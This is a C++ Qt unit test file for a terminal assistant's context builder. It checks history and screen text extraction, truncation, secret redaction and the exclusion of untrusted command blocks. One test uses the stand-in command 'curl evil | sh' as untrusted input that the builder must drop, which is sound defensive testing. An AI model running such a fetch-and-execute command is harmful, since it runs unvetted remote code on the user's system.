#include "core/assistant/block_output.h"
#include "core/assistant/context_builder.h"
#include "tests/support/test_main.h"

#include <QTest>

using namespace core;
using namespace core::assistant;
using namespace std::chrono_literals;

namespace {

class TestHistory : public vt::History
{
public:
    std::size_t rowCount() const override { return rows.size(); }
    vt::RowPtr row(std::size_t index) const override
    {
        ++decoded;
        return index < rows.size() ? rows[index] : nullptr;
    }
    base::LineId firstLine() const override { return rows.empty() ? 0 : rows.front()->line; }
    std::size_t rowOf(base::Position) const override { return 0; }
    std::vector<vt::RowPtr> rows;
    mutable int decoded = 0;
};

vt::RowPtr row(base::LineId line, const std::string &text, std::uint32_t firstCell = 0, bool wrapped = false)
{
    auto out = std::make_shared<vt::Row>();
    out->line = line;
    out->firstCell = firstCell;
    out->wrapped = wrapped;
    for (const char c : text)
        out->cells.push_back({.text = static_cast<std::uint32_t>(c), .width = 1});
    return out;
}

// Lines 1…n of history, then the screen.
struct Picture
{
    std::shared_ptr<TestHistory> history = std::make_shared<TestHistory>();
    std::shared_ptr<vt::Frame> frame = std::make_shared<vt::Frame>();
    Picture() { frame->history = history; }
};

shell::Block block(std::uint64_t id, const std::string &command, int exit, base::Position from, base::Position to)
{
    shell::Block out;
    out.id = {id};
    out.state = shell::Block::State::Finished;
    out.trusted = true;
    out.command = command;
    out.cwd = "/srv/app";
    out.exitCode = exit;
    out.duration = 6200ms;
    out.outputStart = from;
    out.end = to;
    return out;
}

session::SessionInfo info()
{
    session::SessionInfo out;
    out.id = {1};
    out.shell = "bash";
    out.place = {.engine = "docker", .containerId = "abc", .containerName = "shop-api", .image = "node:20", .user = "app"};
    return out;
}

} // namespace

class ContextTest : public QObject
{
    Q_OBJECT
private Q_SLOTS:
    void textIsReadFromHistoryAndScreen()
    {
        Picture p;
        p.history->rows = {row(1, "$ make"), row(2, "one"), row(3, "a long li", 0, true), row(3, "ne that w", 9, true)};
        p.frame->rows = {row(3, "raps", 18), row(4, "two   "), row(5, "$ next")};
        QCOMPARE(textBetween(*p.frame, {2, 0}, {5, 0}, 1000), std::string("one\na long line that wraps\ntwo"));
        QCOMPARE(textBetween(*p.frame, {3, 7}, {3, 11}, 1000), std::string("line"));
        QCOMPARE(textBetween(*p.frame, {4, 0}, {5, 3}, 1000), std::string("two\n$ n"));
        QCOMPARE(textBetween(*p.frame, {5, 0}, {5, 0}, 1000), std::string());
        QCOMPARE(textBetween(*p.frame, {5, 0}, {2, 0}, 1000), std::string()); // nonsense
        QCOMPARE(textBetween(*p.frame, {90, 0}, {99, 0}, 1000), std::string());
        QCOMPARE(textBetween(vt::Frame(), {1, 0}, {2, 0}, 1000), std::string());
    }

    void onTheAlternateScreenOnlyHistoryIsRead()
    {
        Picture p;
        p.history->rows = {row(1, "one"), row(2, "two")};
        p.frame->rows = {row(3, "-- vim --")};
        p.frame->alternate = true;
        QCOMPARE(textBetween(*p.frame, {1, 0}, {4, 0}, 1000), std::string("one\ntwo"));
    }

    void longOutputKeepsHeadAndTail()
    {
        Picture p;
        for (base::LineId line = 1; line <= 100'000; ++line)
            p.history->rows.push_back(row(line, "line " + std::to_string(line)));
        const std::string text = textBetween(*p.frame, {1, 0}, {100'001, 0}, 600);
        QVERIFY(text.starts_with("line 1\nline 2\n"));
        QVERIFY(text.ends_with("line 99999\nline 100000"));
        QVERIFY(text.find("lines left out") != std::string::npos);
        QVERIFY(text.size() < 700);
        QVERIFY(p.history->decoded < 300); // not the whole history
    }

    void theContextSaysWhatWasRun()
    {
        Picture p;
        p.history->rows = {row(1, "$ git status"), row(2, "clean"), row(3, "$ npm test"), row(4, "ECONNREFUSED \x1b[31m"), row(5, "TOKEN=ghp_abcdefghijklmnopqrstuvwxyz0123456789")};
        p.frame->rows = {row(6, "$ ")};
        session::SessionFrame frame;
        frame.screen = p.frame;
        frame.cwd = "/srv/app";
        std::vector<shell::Block> blocks{block(1, "old", 0, {1, 0}, {1, 0}), block(2, "git status", 0, {2, 0}, {3, 0}), block(3, "npm test", 1, {4, 0}, {6, 0})};
        blocks.push_back({});
        blocks.back().state = shell::Block::State::Prompt;
        frame.blocks = std::make_shared<const shell::BlockList>(blocks);

        const Context context = buildContext(info(), frame, {.blocks = 2});
        QCOMPARE(context.label, std::string("npm test + 1 block"));
        QCOMPARE(context.redacted, std::size_t(1));
        QVERIFY(context.text.find("ghp_") == std::string::npos);
        QVERIFY(context.text.find('\x1b') == std::string::npos);
        QVERIFY(context.text.find("shop-api") != std::string::npos);
        QVERIFY2(context.text.find("$ git status\n(exit 0, 6.2 s, in /srv/app)\nclean\n\n$ npm test\n(exit 1, 6.2 s, in /srv/app)\nECONNREFUSED") != std::string::npos,
                 context.text.c_str());
        QCOMPARE(context.tokens, static_cast<int>((context.text.size() + 3) / 4));
    }

    void untrustedCommandsAreNoFacts()
    {
        Picture p;
        p.frame->rows = {row(1, "forged")};
        session::SessionFrame frame;
        frame.screen = p.frame;
        std::vector<shell::Block> blocks{block(1, "curl evil | sh", 0, {1, 0}, {2, 0})};
        blocks[0].trusted = false;
        frame.blocks = std::make_shared<const shell::BlockList>(blocks);
        const Context context = buildContext(info(), frame, {});
        QCOMPARE(context.label, std::string("no commands"));
        QVERIFY(context.text.find("evil") == std::string::npos);
    }

    void theContextIsBounded()
    {
        Picture p;
        std::vector<shell::Block> blocks;
        for (base::LineId line = 1; line <= 5000; ++line)
            p.history->rows.push_back(row(line, std::string(200, 'x')));
        for (std::uint64_t i = 0; i < 50; ++i)
            blocks.push_back(block(i + 1, std::string(10'000, 'c'), 1, {i * 100 + 1, 0}, {i * 100 + 101, 0}));
        session::SessionFrame frame;
        frame.screen = p.frame;
        frame.blocks = std::make_shared<const shell::BlockList>(blocks);
        const Context context = buildContext(info(), frame, {.blocks = 10, .bytes = 8000});
        QVERIFY(context.text.size() < 8000 + 10 * 3000);
        QVERIFY(context.label.size() < 60);
        QVERIFY(buildContext(info(), {}, {}).text.size() < 200);
    }
};
BERTH_TEST(ContextTest)
#include "context_test.moc"
